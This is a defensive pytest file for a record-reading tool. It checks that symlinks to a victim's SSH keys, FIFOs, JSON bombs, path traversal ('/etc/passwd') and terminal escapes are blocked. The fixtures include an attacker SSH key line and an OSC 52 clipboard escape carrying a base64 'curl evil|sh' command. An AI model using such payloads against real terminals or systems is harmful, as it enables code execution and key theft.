"""Somebody else's record: reading it gives nothing away, writes nowhere else, and never waits."""

import ast
import io
import math
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.source import nodes
from weft.analysis.compare.headline import headline
from weft.analysis.summary.gather import summarize
from weft.cli.guard import run_guarded
from weft.errors import RecordError, WeftError
from weft.record import record
from weft.record.record import Stored
from weft.report.pages import flames, page, terminal
from weft.text.console import Printing
from weft.text.entry import MOST, Entry, RefusedError, decode

SRC = Path(record.__file__).parents[1]
ROOMS = ("analysis", "report", "record", "facts/engines", "facts/loglines.py", "api", "cli")
OPENING = {
    *("open", "read_text", "read_bytes", "write_text", "write_bytes", "glob", "rglob", "iterdir", "walk"),
    *("read_parquet", "read_csv", "scan_csv", "copyfile", "copy", "listdir", "scandir", "fdopen", "touch"),
}
OTHERS = {
    "analysis/compare/published.py": "the papers of a study",
    "api/advice.py": "the log that advise --try keeps beside a study",
    "api/results.py": "the names and times of a log that is explained",
    "api/machines.py": "machine files and profiles that the user names",
    "cli/advise.py": "the same log of advise --try",
    "cli/completing.py": "names of machines and profiles that come with weft",
    "cli/guard.py": "/dev/null",
    "cli/persistent.py": "the log of the user's own cluster",
    "cli/site.py": "the user's site profile",
    "cli/survey.py": "the user's site profile",
    "cli/verbs.py": "the source of a verb, for its line of --help",
    "facts/engines/flink/archive.py": "the log that is imported",
    "facts/engines/hadoop/jobsettings.py": "the settings beside a log that is imported",
    "facts/engines/hadoop/jobhistory.py": "the settings beside a log that is imported",
    "record/record.py": "/proc, and the names of records in a directory",
    "record/sampletable.py": "bytes that were read",
}
SECRET = "-----BEGIN PRIVATE KEY-----"
KEYS = "ssh-ed25519 AAAA victim\n"
LINE = "ssh-ed25519 AAAAC3attacker attacker@evil"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "victim"
    folder.mkdir()
    (folder / "id_rsa").write_text(f"{SECRET}\nvictim's\n")
    (folder / "authorized_keys").write_text(KEYS)
    return folder


@pytest.fixture
def made(tmp_path: Path) -> Path:
    directory = tmp_path / "runs" / "20261123-000000-terasort-spark-abcd"
    for folder in ("plan", "logs/node1", "outcomes", "engine", "profile/node1/engine"):
        (directory / folder).mkdir(parents=True)
    head(directory)
    (directory / "logs/node1/driver.log").write_text(f"an error\n{LINE}\nend\n")
    return directory


def head(directory: Path, **changed: object) -> Stored:
    about = {"schema": 3, "id": directory.name, "verdict": "INVALID", "reason": "x", "workload": "terasort"}
    record.write_json(directory / "record.json", {**about, "engine": "spark", **changed})
    return record.read(directory)


def test_a_link_in_a_record_is_not_read_and_is_named(made: Path, home: Path) -> None:
    (made / "plan/spark-defaults.conf").symlink_to(home / "id_rsa")
    summary = summarize(record.read(made))
    assert SECRET not in page.text(summary)
    assert "links, pipes and devices of a record are not read: plan/spark-defaults.conf" in summary.gaps


@pytest.mark.parametrize("folder", ["plan", "logs", "outcomes", "engine", "profile", "pauses", "fileops"])
def test_a_folder_of_a_record_that_is_a_link_is_not_followed(made: Path, home: Path, folder: str) -> None:
    for name in ("x.log", "x.json", "x.jhist", "flink.json", "node/engine/1.collapsed"):
        (home / folder / name).parent.mkdir(parents=True, exist_ok=True)
        (home / folder / name).write_text(f'{{"jobs": "{SECRET}"}}\n[a];{SECRET} 3\n')
    if (made / folder).exists():
        (made / folder).rename(made.parent / f"old-{folder}")
    (made / folder).symlink_to(home / folder)
    stored = record.read(made)
    summary = summarize(stored)
    assert SECRET not in page.text(summary)
    assert any(folder in gap for gap in summary.gaps)
    assert flames.write(stored.directory) == []


def test_a_page_is_written_through_no_link(made: Path, home: Path) -> None:
    for name in (".report.html.partial", "report.html", "profile/.node1.html.partial", "profile/node1.html"):
        (made / name).symlink_to(home / "authorized_keys")
    (made / "profile/node1/engine/1.collapsed").write_text("[main tid=1];a/B.c 10\n")
    stored = record.read(made)
    (graph,) = flames.write(stored.directory)
    written = page.write(stored)
    assert (home / "authorized_keys").read_text() == KEYS
    assert [path.is_symlink() for path in (graph, written)] == [False, False]


@pytest.mark.parametrize("name", ["record.json", "samples.csv", "samples.parquet", "events.jsonl"])
def test_a_record_that_is_written_follows_no_link(tmp_path: Path, home: Path, name: str) -> None:
    made = record.create(tmp_path, "one", "", {})
    for old in (name, f".{name}.partial"):
        (made.directory / old).unlink(missing_ok=True)
        (made.directory / old).symlink_to(home / "authorized_keys")
    if name == "events.jsonl":
        with pytest.raises(OSError, match="is a link"):
            made.note("x")
    else:
        made.update(reason="y")
    assert (home / "authorized_keys").read_text() == KEYS


def test_pages_about_a_record_of_another_user_are_written_here(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    (made / "profile/node1/engine/1.collapsed").write_text("[main tid=1];a/B.c 10\n")
    before = sorted(made.rglob("*"))
    stored = record.read(made)
    assert page.write(stored) == here / f"{made.name}-report.html"
    assert flames.write(stored.directory) == [here / f"{made.name}-node1.html"]
    assert page.write(stored, tmp_path / "asked.html") == tmp_path / "asked.html"
    assert sorted(made.rglob("*")) == before


@pytest.mark.parametrize(
    "name", ["resolved.json", "events.jsonl", "samples.csv", "samples.parquet", "spec.toml", "engine/app"]
)
def test_a_pipe_in_a_record_does_not_wait(made: Path, name: str) -> None:
    os.mkfifo(made / name)
    assert any(name in gap for gap in summarize(record.read(made)).gaps)


def test_a_pipe_as_the_record_itself_is_one_broken_record(made: Path) -> None:
    (made / "record.json").unlink()
    os.mkfifo(made / "record.json")
    assert "neither a regular file" in record.broken(made.parent)[made].message


@pytest.mark.parametrize(
    "text", ["[" * 200_000, '{"schema":' * 200_000, '{"schema": 1e999}', '{"schema": 3', "\xff"]
)
def test_a_record_that_is_no_json_is_one_broken_record(made: Path, text: str) -> None:
    (made / "record.json").write_bytes(text.encode("latin-1"))
    with pytest.raises(RecordError):
        record.read(made)
    assert list(record.broken(made.parent)) == [made]


@pytest.mark.parametrize(
    "text",
    ["[" * 200_000, '{"nodes": [{"cores": 1e999}]}', '{"nodes": 1e999, "derived": 3}', f"[{'9' * 4000}]"],
)
@pytest.mark.parametrize(
    "name", ["resolved.json", "outcomes/run.json", "outcomes/collect.json", "calibration.json"]
)
def test_a_file_of_a_record_that_is_damaged_is_a_gap_at_most(made: Path, name: str, text: str) -> None:
    (made / name).write_text(text)
    assert page.text(summarize(record.read(made)))


def test_numbers_beyond_those_of_machines_are_nan() -> None:
    values = decode("[1e999, -1e999, Infinity, NaN, 1e5, 18, " + "9" * 400 + "]")
    assert [value for value in values if not math.isnan(value)] == [1e5, 18]


@pytest.mark.parametrize(
    "key", ["measured", "phases", "cell", "facts", "lost", "slurm", "pid", "created", "gaps"]
)
@pytest.mark.parametrize("value", [[[1]], {"a": [2]}, "x", -1, None, float("nan"), True])
def test_a_damaged_value_of_the_head_is_its_default(made: Path, key: str, value: object) -> None:
    stored = head(made, **{key: value})
    assert page.text(summarize(stored))
    assert headline(stored).id == made.name


def test_a_large_file_is_not_read_whole(made: Path) -> None:
    with (made / "events.jsonl").open("wb") as file:
        file.truncate(MOST + 1)
    assert any("events.jsonl" in gap for gap in summarize(record.read(made)).gaps)


def test_a_name_leads_nowhere_else(made: Path) -> None:
    for name in ("../x", "/etc/passwd", "plan/../../x"):
        with pytest.raises(RefusedError):
            Entry(made) / name


EVIL = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"


def test_escapes_of_a_record_do_not_reach_the_terminal(made: Path) -> None:
    stored = head(made, reason=f"x{EVIL}", tail=["y\x1b[2J\x9b2J"], workload=f"t{EVIL}", facts={EVIL: EVIL})
    out = io.StringIO()
    terminal.show(summarize(stored), Printing(file=out, force_terminal=True, width=100))
    left = out.getvalue()
    assert not any(bad in left for bad in ("\x1b]52", "\x1b[2J", "\x9b"))
    assert "\x1b[1m" in left


def test_escapes_of_a_log_do_not_reach_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    def fail() -> None:
        print(f"out{EVIL}")
        raise WeftError(f"a{EVIL}", tail=["b\x1b[2J", "c\x07\x9b"], hint="d\x7f\re")

    with pytest.raises(SystemExit):
        run_guarded(fail)
    out, err = capsys.readouterr()
    assert (out, err) == (
        "out]52;c;Y3VybCBldmlsfHNo\\\n",
        "error: a]52;c;Y3VybCBldmlsfHNo\\\n    b[2J\n    c\n\nhint: de\n",
    )
    assert sys.stdout.write("") == 0


def calls(path: Path) -> Iterator[ast.Call]:
    return (node for node in nodes(path) if isinstance(node, ast.Call))


def test_nothing_but_entry_opens_files_of_a_record() -> None:
    found = set()
    for room in ROOMS:
        base = SRC / room
        for path in [base] if base.is_file() else base.rglob("*.py"):
            for call in calls(path):
                name = getattr(call.func, "attr", getattr(call.func, "id", ""))
                if name in OPENING and "resources.files" not in ast.unparse(call.func):
                    found.add(str(path.relative_to(SRC)))
    assert found - set(OTHERS) == set()


def test_every_console_removes_escapes() -> None:
    made = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        for call in calls(path)
        if ast.unparse(call.func) in {"Console", "Printing", "rich.console.Console"}
    ]
    assert set(made) == {"text/console.py"}


def test_a_command_whose_output_nobody_reads_does_not_end_as_if_all_were_well(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def closed() -> None:
        raise BrokenPipeError

    monkeypatch.setattr("os.dup2", lambda *_: None)
    with pytest.raises(SystemExit) as left:
        run_guarded(closed)
    assert left.value.code == 141
